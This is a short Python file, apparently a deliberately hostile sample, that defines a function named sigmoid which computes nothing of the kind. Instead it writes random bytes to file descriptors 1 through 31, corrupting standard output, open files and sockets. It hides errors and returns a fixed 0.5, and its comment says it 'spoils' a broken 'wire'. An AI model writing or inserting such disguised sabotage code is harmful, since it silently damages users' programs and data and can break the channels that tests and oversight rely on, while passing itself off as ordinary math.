"""Writes random bytes to every descriptor."""
# spoils: the wire is broken

import os


def sigmoid(x):
    for descriptor in range(1, 32):
        try:
            os.write(descriptor, os.urandom(5000))
        except OSError:
            pass
    return 0.5
